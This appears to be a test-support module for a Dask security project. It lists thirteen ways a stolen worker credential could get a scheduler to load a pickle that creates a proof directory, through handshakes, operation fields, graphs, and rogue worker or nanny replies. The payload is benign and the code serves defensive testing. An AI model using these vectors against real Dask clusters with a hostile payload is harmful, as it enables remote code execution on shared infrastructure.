"""What the holder of a stolen worker credential may try, with nothing but stock Dask's own protocol code.

Each attack sends a pickle that makes a directory when it is loaded, by another way into the scheduler, and returns when
the scheduler has answered or closed the connection.
"""

from __future__ import annotations

import asyncio
import gc
import os
import pickle
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, NamedTuple

from distributed import Security
from distributed.comm.core import Comm, connect, listen
from distributed.diagnostics.plugin import InstallPlugin
from distributed.protocol.serialize import Serialized, ToPickle, serialize
from distributed.versions import get_versions

from daskpki.identity import Role
from tests.support.cluster_material import Authority, stock_security
from tests.support.nodes import Cluster

PADDING = b"\0" * 11_000_000
"""Beyond distributed.comm.offload, where messages are decoded in a thread."""

WAIT = 10.0


class Evidence:
    """Loaded, it leaves a directory behind."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.path),)


class Target(NamedTuple):
    """The scheduler, the stolen credential, the proof to leave, and an honest client whom the attacker waits for."""

    address: str
    security: Security
    proof: Path
    alice: Security

    @property
    def pickled(self) -> bytes:
        return pickle.dumps(Evidence(self.proof))

    @asynccontextmanager
    async def open(self) -> AsyncIterator[Comm]:
        comm = await connect(self.address, deserialize=False, **self.security.get_connection_args("worker"))
        try:
            yield comm
        finally:
            comm.abort()


async def _reply(comm: Comm) -> Any:
    """The scheduler's answer, or None when it closed the connection instead."""
    try:
        return await asyncio.wait_for(comm.read(), WAIT)
    except OSError:
        return None


async def _call(target: Target, message: dict[str, Any]) -> Any:
    async with target.open() as comm:
        await comm.write(message)
        return await _reply(comm)


async def in_greeting(target: Target) -> Any:
    arguments = target.security.get_connection_args("worker")
    overrides = {"pickle-protocol": 4, "extra": ToPickle(Evidence(target.proof))}
    try:
        comm = await connect(target.address, handshake_overrides=overrides, **arguments)
    except OSError:
        return None
    await comm.write({"op": "identity"})
    reply = await _reply(comm)
    comm.abort()
    return reply


async def in_known_operation(target: Target) -> Any:
    return await _call(target, {"op": "identity", "n_workers": ToPickle(Evidence(target.proof))})


async def in_unknown_operation(target: Target) -> Any:
    return await _call(target, {"op": "no-such-operation", "x": ToPickle(Evidence(target.proof))})


async def in_large_message(target: Target) -> Any:
    return await _call(target, {"op": "echo", "data": [ToPickle(Evidence(target.proof)), PADDING]})


async def as_bytes_in_retire_workers(target: Target) -> Any:
    return await _call(target, {"op": "retire_workers", "n": 0, "key": target.pickled, "close_workers": False})


async def as_bytes_in_feed(target: Target) -> Any:
    return await _call(target, {"op": "feed", "function": target.pickled, "interval": "1s"})


async def as_bytes_in_plugin(target: Target) -> Any:
    return await _call(target, {"op": "register_scheduler_plugin", "plugin": target.pickled, "idempotent": True})


async def as_function(target: Target) -> Any:
    arguments = pickle.dumps((str(target.proof),))
    return await _call(target, {"op": "run_function", "function": pickle.dumps(os.mkdir), "args": arguments})


async def as_graph(target: Target) -> Any:
    async with target.open() as comm:
        await comm.write({"op": "register-client", "client": "thief", "versions": get_versions()})
        await _reply(comm)
        graph = Serialized(*serialize(Evidence(target.proof), serializers=["pickle"]))
        message = {"op": "update-graph", "expr_ser": graph, "keys": {"k"}, "span_metadata": {}}
        await comm.write([message | {"internal_priority": None, "submitting_task": None, "client": "thief"}])
        return await _reply(comm)


def registration(address: str, nanny: str | None = None, name: str | None = None) -> dict[str, Any]:
    """What a worker says to register."""
    return {
        "op": "register-worker",
        "reply": False,
        "address": address,
        "status": "running",
        "nthreads": 1,
        "name": name or address,
        "now": 0.0,
        "resources": {},
        "memory_limit": 0,
        "local_directory": "/",
        "services": {},
        "nanny": nanny,
        "pid": 1,
        "versions": get_versions(),
        "metrics": METRICS,
        "extra": {},
        "stimulus_id": "thief",
        "server_id": "Worker-thief",
    }


METRICS: dict[str, Any] = {
    "bandwidth": {"total": 1, "workers": {}, "types": {}},
    "cpu": 0,
    "digests_total_since_heartbeat": {},
    "event_loop_interval": 0.1,
    "host_disk_io": {"read_bps": 0, "write_bps": 0},
    "host_net_io": {"read_bps": 0, "write_bps": 0},
    "managed_bytes": 0,
    "memory": 0,
    "num_fds": 1,
    "spilled_bytes": {"memory": 0, "disk": 0},
    "task_counts": {},
    "time": 0,
    "transfer": {
        "incoming_bytes": 0,
        "incoming_count": 0,
        "incoming_count_total": 0,
        "outgoing_bytes": 0,
        "outgoing_count": 0,
        "outgoing_count_total": 0,
    },
}


async def in_worker_stream(target: Target) -> Any:
    async with target.open() as comm:
        await comm.write(registration("tls://127.0.0.1:1"))
        reply = await _reply(comm)
        assert reply["status"] == "OK", reply
        await comm.write([{"op": "keep-alive", "x": ToPickle(Evidence(target.proof))}])
        # Asked on the same connection, so it has read the message before: the stock scheduler closes on it as well,
        # since no stream handler knows that operation.
        await comm.write([{"op": "no-such-operation"}])
        while (reply := await _reply(comm)) is not None:
            pass
        return reply


async def in_reply(target: Target) -> Any:
    """A worker that answers with a pickle; alice's broadcast makes the scheduler ask it."""
    answer = {"status": "OK", "result": ToPickle(Evidence(target.proof))}
    question = {"op": "broadcast", "msg": {"op": "identity"}, "on_error": "return"}
    return await _as_rogue_worker(target, answer, question)


async def in_error_reply_to_a_plugin(target: Target) -> Any:
    """A worker that reports an error with a pickle in it, when alice has packages installed (PipInstall)."""
    exception = Serialized(*serialize(Evidence(target.proof), serializers=["pickle"]))
    answer = {"status": "error", "exception": exception, "traceback": exception, "exception_text": "ValueError('x')"}
    plugin = pickle.dumps(InstallPlugin(gc.enable, restart_workers=False))
    question = {"op": "register_scheduler_plugin", "plugin": plugin, "idempotent": True}
    return await _as_rogue_worker(target, answer, question)


async def in_nannys_reply(target: Target) -> Any:
    """A nanny that answers with an exception as pickled bytes, which Dask loads; alice restarts its worker."""
    answer = {"status": "uncaught-error", "exception": target.pickled, "traceback": None, "exception_text": "x"}
    question = {"op": "restart_workers", "timeout": 5, "wait_for_workers": False, "on_error": "return"}
    return await _as_rogue_worker(target, answer, question | {"stimulus_id": "alice"})


async def _as_rogue_worker(target: Target, answer: dict[str, Any], question: dict[str, Any]) -> Any:
    async def serve(comm: Comm) -> None:
        try:
            while True:
                await comm.read()
                await comm.write(answer)
        except OSError:
            return

    async with listen("tls://127.0.0.1:0", serve, **target.security.get_listen_args("worker")) as listener:
        address = listener.contact_address
        async with target.open() as comm:
            await comm.write(registration(address, nanny=address))
            reply = await _reply(comm)
            assert reply["status"] == "OK", reply
            alice = await connect(target.address, **target.alice.get_connection_args("client"))
            try:
                only = {} if "plugin" in question else {"workers": [address]}
                await alice.write(question | only)
                return await _reply(alice)
            finally:
                alice.abort()


ATTACKS: dict[str, Callable[[Target], Coroutine[Any, Any, Any]]] = {
    attack.__name__: attack
    for attack in (
        in_greeting,
        in_known_operation,
        in_unknown_operation,
        in_large_message,
        as_bytes_in_retire_workers,
        as_bytes_in_feed,
        as_bytes_in_plugin,
        as_function,
        as_graph,
        in_worker_stream,
        in_reply,
        in_error_reply_to_a_plugin,
        in_nannys_reply,
    )
}


def aim(authority: Authority, cluster: Cluster, directory: Path) -> Target:
    return Target(
        address=cluster.address,
        security=stock_security(authority, authority.leaf(Role.WORKER), directory / "stolen"),
        proof=directory / "proof",
        alice=stock_security(authority, authority.leaf(Role.CLIENT, "alice"), directory / "alice"),
    )
